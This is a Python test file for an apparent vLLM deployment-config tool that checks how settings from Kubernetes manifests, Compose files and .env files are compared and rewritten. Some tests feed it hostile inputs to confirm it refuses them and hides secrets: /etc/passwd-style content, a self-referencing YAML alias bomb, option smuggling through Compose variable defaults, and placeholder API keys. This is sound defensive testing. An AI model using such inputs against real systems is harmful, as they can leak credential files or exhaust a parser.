    (["--no-enforce-eager"], {"tensor_parallel_size": 1, "enforce_eager": False}, []),
    (["--enforce-eager"], {"tensor_parallel_size": 1, "enforce_eager": True}, []),
    (["-tp", "2"], {"tensor_parallel_size": 2}, []),
    (["--tensor_parallel_size=$(TP)"], {"tensor_parallel_size": 4}, []),  # not in the file: not compared here
    (["--max-num-seqs", "64"], {"tensor_parallel_size": 1}, []),  # its default depends on the version and GPU
    (["--max-num-seqs", "64"], {"tensor_parallel_size": 1, "max_num_seqs": 8},
     ["--max-num-seqs 64 here, 8 in the fit"]),
    (["--max-num-batched-tokens", "8k"], {"tensor_parallel_size": 1, "max_num_batched_tokens": 8000}, []),
    (["--speculative-config", '{"num_speculative_tokens": 3, "method": "ngram"}'],
     {"tensor_parallel_size": 1, "speculative_config": '{"method": "ngram", "num_speculative_tokens": 3}'}, []),
    (["--quantization", "awq"], {"tensor_parallel_size": 1}, []),  # the checkpoint's own method either way
    (["-q", "awq"], {"tensor_parallel_size": 1, "quantization": "fp8"}, ["--quantization awq here, fp8 in the fit"]),
])
def test_the_settings_a_fit_was_found_with_are_compared_as_vllm_reads_them(args, fit_setup, found):
    assert _setup_differences(args, fit_setup) == found


def test_max_num_seqs_is_not_compared_where_the_fit_sets_it():
    assert _setup_differences(["--max-num-seqs", "64"], {"tensor_parallel_size": 1, "max_num_seqs": 8},
                              skip=("max_num_seqs",)) == []


@pytest.mark.parametrize("args, fit_setup, holds_more", [
    (["-tp", "4"], {"tensor_parallel_size": 2}, True),
    (["-tp", "2"], {"tensor_parallel_size": 4}, False),
    (["-tp", "4"], {"tensor_parallel_size": 2, "pipeline_parallel_size": 2}, False),  # 4 GPUs both, split otherwise
    (["--kv-cache-dtype", "fp8"], {"tensor_parallel_size": 1}, True),
    (["--dtype", "float32"], {"tensor_parallel_size": 1}, False),
    (["--enforce-eager"], {"tensor_parallel_size": 1}, True),
    ([], {"tensor_parallel_size": 1, "enforce_eager": True}, False),  # CUDA graphs to capture here
    (["--max-num-batched-tokens", "16384"], {"tensor_parallel_size": 1, "max_num_batched_tokens": 8192}, False),
    (["--num-gpu-blocks-override", "100"], {"tensor_parallel_size": 1}, False),
])
def test_which_side_of_a_difference_leaves_more_room(args, fit_setup, holds_more):
    from vllm_fit.deploy.deployment import read_deployment
    from vllm_fit.deploy.setup_match import differences

    text = "kind: Pod\nspec:\n  containers:\n  - name: v\n    image: vllm/vllm-openai:v0.32.0\n    args: %s\n" \
        % json.dumps(["m", *args])
    found = differences(read_deployment(text, "pod.yaml", Path("pod.yaml")).servers[0], fit_setup)
    assert len(found) >= 1 and {d.holds_more for d in found} == {holds_more}, found


CONFIG_ELSEWHERE = """\
apiVersion: apps/v1
kind: Deployment
metadata: {name: vllm}
spec:
  template:
    spec:
      containers:
        - name: vllm
          image: vllm/vllm-openai:v0.32.0
          args: ["meta-llama/Llama-3.1-8B-Instruct", "--config", "/etc/vllm/config.yaml", "--max-model-len", "4096"]
          volumeMounts: [{name: cfg, mountPath: /etc/vllm}]
      volumes: [{name: cfg, configMap: {name: vllm-config}}]
"""


def test_an_option_file_apply_cannot_read_keeps_the_server_unwritten(tmp_path):
    """A container whose vLLM reads --config from a ConfigMap (hand-written manifest): that file may set the
    other memory knob or the parallelism, so nothing is written unless --allow-mismatch; with it, the fit goes
    on the command line, which wins over the file."""
    (tmp_path / "deploy.yaml").write_text(CONFIG_ELSEWHERE)
    (tmp_path / "fit.yaml").write_text("# vllm: 0.32.0\nmodel: meta-llama/Llama-3.1-8B-Instruct\n"
                                       "max-model-len: 8192\ngpu-memory-utilization: 0.9\n")
    run = [sys.executable, "-m", "vllm_fit", "apply", "fit.yaml", "--to", "deploy.yaml"]
    refused = subprocess.run(run, cwd=str(tmp_path), capture_output=True, text=True, timeout=120)
    assert refused.returncode == 2 and refused.stderr.count("\n") == 1, refused.stderr
    assert "also reads options from /etc/vllm/config.yaml (a file in the container" in refused.stderr
    assert (tmp_path / "deploy.yaml").read_text() == CONFIG_ELSEWHERE
    allowed = subprocess.run([*run, "--allow-mismatch"], cwd=str(tmp_path), capture_output=True, text=True,
                             timeout=120)
    assert allowed.returncode == 0, allowed.stderr
    assert '"--max-model-len", "8192", "--gpu-memory-utilization", "0.9"]' in (tmp_path / "deploy.yaml").read_text()


CONFIG_MAP = """\
apiVersion: v1
kind: ConfigMap
metadata: {name: vllm-config}
data:
  profile.yaml: |
    model: meta-llama/Llama-3.1-8B-Instruct
    max-model-len: 4096
    %s
---
apiVersion: apps/v1
kind: Deployment
metadata: {name: vllm}
spec:
  template:
    spec:
      containers:
        - name: vllm
          image: vllm/vllm-openai:v0.32.0
          command: ["vllm", "serve", "--config", "/etc/vllm/profile.yaml"]
          volumeMounts: [{name: cfg, mountPath: %s}]
      volumes: [{name: cfg, configMap: {name: vllm-config}}]
"""


@pytest.mark.parametrize("knob, mount, code, words", [
    ("gpu-memory-utilization: 0.8", "/etc/vllm", 0, '"--config", "/etc/vllm/profile.yaml", "--max-model-len", "8192",'
                                                    ' "--gpu-memory-utilization", "0.9"]'),
    ("gpu-memory-utilization: 0.9", "/etc/vllm/profile.yaml, subPath: profile.yaml", 0,
     '"--config", "/etc/vllm/profile.yaml", "--max-model-len", "8192"]'),
    ("kv-cache-memory-bytes: 8GiB", "/etc/vllm", 2, "it sets --kv-cache-memory-bytes (in its --config file)"),
    ("kv-cache-dtype: float32", "/etc/vllm", 2, "--kv-cache-dtype float32 here"),
    ("gpu-memory-utilization: 0.9", "/etc/vllm/profile.yaml, subPath: other.yaml", 2,
     "options from /etc/vllm/profile.yaml (mounted from ConfigMap vllm-config, which has no such key)"),
], ids=["folder mount", "one key (subPath)", "other knob", "wider KV cache", "key not there"])
def test_an_option_file_from_a_configmap_of_the_same_file_is_read(tmp_path, knob, mount, code, words):
    """The pattern `vllm serve --config /etc/vllm/profile.yaml` with the file from a ConfigMap (hand-written,
    after public generators of such manifests: search index file ids 70216469235, 70446155616): its values are
    compared as the command line's; the fit goes on the command line, which wins."""
    text = CONFIG_MAP % (knob, mount)
    (tmp_path / "deploy.yaml").write_text(text)
    (tmp_path / "fit.yaml").write_text("# vllm: 0.32.0\nmodel: meta-llama/Llama-3.1-8B-Instruct\nmax-model-len: 8192\n"
                                       "gpu-memory-utilization: 0.9\ntensor-parallel-size: 1\n")
    done = subprocess.run([sys.executable, "-m", "vllm_fit", "apply", "fit.yaml", "--to", "deploy.yaml"],
                          cwd=str(tmp_path), capture_output=True, text=True, timeout=120)
    assert done.returncode == code, done.stderr
    if code:
        assert words in done.stderr and done.stderr.count("\n") == 1, done.stderr
        assert (tmp_path / "deploy.yaml").read_text() == text
    else:
        assert words in (tmp_path / "deploy.yaml").read_text()


@pytest.mark.parametrize("content, why", [
    (b"\xff\xfe secret \x00" * 64, "which is not a text file apply can read"),
    (b"root:x:0:0:root:/root:/bin/bash\n", "which is not a vLLM option file"),
    (b"a: &a [*a, *a]\nb: &b [*a, *a]\n", "which is not YAML apply can read"),
    (b"max-model-len: [unclosed\n", "which is not YAML apply can read"),
    (b"max-model-len: 1\n" * 70000, "larger than a vLLM option file"),
], ids=["binary", "not options", "aliases", "broken YAML", "over 1 MiB"])
def test_a_mounted_option_file_that_is_not_one_is_refused_without_showing_it(tmp_path, content, why):
    """Bad input: whatever a compose file bind-mounts as --config, the server is left unwritten (exit 2, one
    line naming the mount and why, none of its text, no traceback)."""
    (tmp_path / "mounted.yaml").write_bytes(content)
    compose = ('services:\n  vllm:\n    image: vllm/vllm-openai:v0.32.0\n'
               '    command: ["meta-llama/Llama-3.1-8B-Instruct", "--config", "/c.yaml", "--max-model-len", "4096"]\n'
               '    volumes:\n      - ./mounted.yaml:/c.yaml\n')
    (tmp_path / "compose.yaml").write_text(compose)
    (tmp_path / "fit.yaml").write_text("# vllm: 0.32.0\nmodel: meta-llama/Llama-3.1-8B-Instruct\nmax-model-len: 8192\n"
                                       "gpu-memory-utilization: 0.9\n")
    done = subprocess.run([sys.executable, "-m", "vllm_fit", "apply", "fit.yaml", "--to", "compose.yaml"],
                          cwd=str(tmp_path), capture_output=True, text=True, timeout=120)
    assert done.returncode == 2 and done.stderr.count("\n") == 1 and "Traceback" not in done.stderr, done.stderr
    assert why in done.stderr and "secret" not in done.stderr and "root:x" not in done.stderr
    assert (tmp_path / "compose.yaml").read_text() == compose


DOTENV_COMPOSE = """services:
  vllm:
    image: vllm/vllm-openai:${VLLM_VERSION:-v0.32.0}
    command: --model ${MODEL} --max-model-len ${MAX_MODEL_LEN} --gpu-memory-utilization ${GPU_UTIL:-0.9}
"""


@pytest.mark.parametrize("length, util, code, words", [
    (8192, 0.9, 0, "unchanged (1 server)"),
    (12345, 0.9, 2, "--max-model-len 8192 is set in $MAX_MODEL_LEN in the .env beside the compose file"),
    (8192, 0.85, 2, "--gpu-memory-utilization 0.9 is set in $GPU_UTIL in the .env beside the compose file"),
])
def test_compose_variables_are_read_from_the_env_file_beside_it(tmp_path, length, util, code, words):
    """Compose interpolates ${VAR} from the .env in the compose file's folder (a shell variable would win; the
    file is what is read): the server is matched by its model there, a fit already equal is unchanged, and a
    value that differs is refused naming the .env variable (apply writes only the files it is given; a value is
    never shown: .env holds tokens too)."""
    write(tmp_path, "compose.yaml", DOTENV_COMPOSE)
    write(tmp_path, ".env", '# settings\nVLLM_VERSION=v0.32.0\nMODEL=org/m\nexport MAX_MODEL_LEN="8192"\n'
          "GPU_UTIL=0.9 # the default\n")
    done = apply(tmp_path, str(fit(tmp_path, length, util)), "--to", "compose.yaml", "--check")
    assert done.returncode == code, done.stderr
    assert words in done.stdout + done.stderr
    assert (tmp_path / "compose.yaml").read_text() == DOTENV_COMPOSE


def test_without_the_env_file_or_with_a_value_of_several_words_compose_variables_stay_unknown(tmp_path):
    write(tmp_path, "compose.yaml", DOTENV_COMPOSE)
    done = apply(tmp_path, str(fit(tmp_path)), "--to", "compose.yaml")
    assert done.returncode == 2 and "model from ${MODEL} (set where Compose runs)" in done.stderr, done.stderr
    write(tmp_path, ".env", "MODEL=org/m\nMAX_MODEL_LEN=8192 --max-model-len 4096\n")
    done = apply(tmp_path, str(fit(tmp_path)), "--to", "compose.yaml")
    assert done.returncode == 2 and "set from ${MAX_MODEL_LEN} (set where Compose runs)" in done.stderr, done.stderr


def test_an_empty_env_value_unquoted_in_a_compose_command_string_is_no_word(tmp_path):
    """Compose interpolates a command string before it splits it, so `${ARGS}` with `ARGS=` in .env vanishes (it
    was read as an empty word in the model's slot: "model None"); the fit goes in, and `"${ARGS}"` quoted stays
    an empty word (vllm serve refuses a second positional), so apply refuses there."""
    text = ("services:\n  v:\n    image: vllm/vllm-openai:latest\n"
            "    command: --model org/m ${ARGS} --max-model-len 4096\n")
    target = write(tmp_path, "compose.yaml", text)
    write(tmp_path, ".env", "ARGS=\n")
    done = apply(tmp_path, str(fit(tmp_path)), "--to", "compose.yaml")
    assert done.returncode == 0, done.stderr
    assert target.read_text() == text.replace("4096", "16384 --gpu-memory-utilization 0.9")
    quoted = text.replace("${ARGS}", '"${ARGS}"')
    target.write_text(quoted)
    done = apply(tmp_path, str(fit(tmp_path)), "--to", "compose.yaml")
    assert done.returncode == 2 and "empty word" in done.stderr and target.read_text() == quoted


@pytest.mark.parametrize("command", ["--model org/m --max-model-len --port 8000", "--model org/m --max-model-len"])
def test_a_length_option_without_its_value_is_refused_as_such(tmp_path, command):
    """`--max-model-len` followed by another option or nothing (vLLM: "expected one argument") is named as an
    option without a value, not as "--max-model-len None" written in a way apply cannot change."""
    text = "services:\n  v:\n    image: vllm/vllm-openai:latest\n    command: %s\n" % command
    target = write(tmp_path, "compose.yaml", text)
    done = apply(tmp_path, str(fit(tmp_path)), "--to", "compose.yaml")
    assert done.returncode == 2 and "its --max-model-len has no value" in done.stderr and "None" not in done.stderr
    assert target.read_text() == text


def test_a_refusal_never_shows_a_token_from_the_env_file_or_a_default(tmp_path):
    """A compose script whose word holds a token from .env, and a script whose open word's default holds a key:
    the refusal names the variables, not their values."""
    write(tmp_path, "compose.yaml", 'services:\n  vllm:\n    image: vllm/vllm-openai:v0.32.0\n    entrypoint: ["sh",'
          ' "-c", "vllm serve ${MODEL} --api-key ${API_KEY} --max-model-len ${MAX_MODEL_LEN}"]\n')
    write(tmp_path, ".env", "MODEL=org/m\nAPI_KEY=sk-live-abcdef123456\nMAX_MODEL_LEN=8192\n")
    done = apply(tmp_path, str(fit(tmp_path, 12345)), "--to", "compose.yaml")
    assert done.returncode == 2 and "$MAX_MODEL_LEN" in done.stderr, done.stderr
    assert "sk-live" not in done.stdout + done.stderr
    write(tmp_path, "serve.sh", '#!/bin/sh\nvllm serve org/m --max-model-len 4096 ${EXTRA:---api-key sk-live-abcdef}\n')
    done = apply(tmp_path, str(fit(tmp_path, 12345)), "--to", "serve.sh")
    assert done.returncode == 2 and "its command line has ${EXTRA...}" in done.stderr, done.stderr
    assert "sk-live" not in done.stdout + done.stderr


def test_a_compose_default_that_holds_a_key_is_not_shown(tmp_path):
    write(tmp_path, "compose.yaml", "services:\n  vllm:\n    image: vllm/vllm-openai:v0.32.0\n    command: org/m"
          " --max-model-len 4096 ${EXTRA:---api-key sk-live-abcdef}\n")
    done = apply(tmp_path, str(fit(tmp_path, 12345)), "--to", "compose.yaml")
    assert done.returncode == 2 and "${EXTRA...}" in done.stderr and "sk-live" not in done.stderr, done.stderr


def test_a_compose_default_of_several_words_is_not_read_as_literal_words(tmp_path):
    """Compose interpolates a command string before it splits it: `${EXTRA:---max-model-len 2048}` may put a
    length after the fit's. Split first, its pieces read as two literal words, and the fit was written
    ("updated") where vLLM would get 2048; now the server is refused, nothing written."""
    text = ("services:\n  vllm:\n    image: vllm/vllm-openai:v0.32.0\n    command: org/m --max-model-len 4096"
            " ${EXTRA:---max-model-len 2048} --dtype half\n")
    write(tmp_path, "compose.yaml", text)
    done = apply(tmp_path, str(fit(tmp_path, 12345)), "--to", "compose.yaml")
    assert done.returncode == 2 and "its command line has ${EXTRA" in done.stderr, done.stderr
    assert (tmp_path / "compose.yaml").read_text() == text


@pytest.mark.parametrize("tag, refused", [("v0.9.2", True), ("v0.10.1.1", True), ("v0.10.2", False), ("latest", False)])
def test_the_kv_bytes_knob_is_not_written_for_a_vllm_without_it(tmp_path, tag, refused):
    """`--kv-cache-memory-bytes` is in vLLM's EngineArgs from 0.10.2 (read in each release): an image of an older
    vLLM refuses to start with it as an unrecognized argument, so such a fit is refused there, --allow-mismatch
    or not; where it is written on another version than the fit's, stderr says the fit may not hold there."""
    text = ("apiVersion: v1\nkind: Pod\nmetadata: {name: v}\nspec:\n  containers:\n  - name: vllm\n"
            "    image: vllm/vllm-openai:%s\n    args: [--model, org/m, --max-model-len, '4096']\n" % tag)
    target = write(tmp_path, "pod.yaml", text)
    source = write(tmp_path, "fit.yaml", "# vllm: 0.32.0\nmodel: org/m\nmax-model-len: 16384\n"
                                         "kv-cache-memory-bytes: 8589934592\n")
    for extra in ([], ["--allow-mismatch"]):
        done = apply(tmp_path, str(source), "--to", "pod.yaml", *extra)
        if refused:
            assert done.returncode == 2 and target.read_text() == text, done.stderr
            assert "has no --kv-cache-memory-bytes (from 0.10.2 on" in done.stderr
        else:
            assert done.returncode == 0 and "8589934592" in target.read_text(), done.stderr
            assert ("the fit was found on 0.32.0: it may not hold there" in done.stderr) is (tag != "latest")
            target.write_text(text)
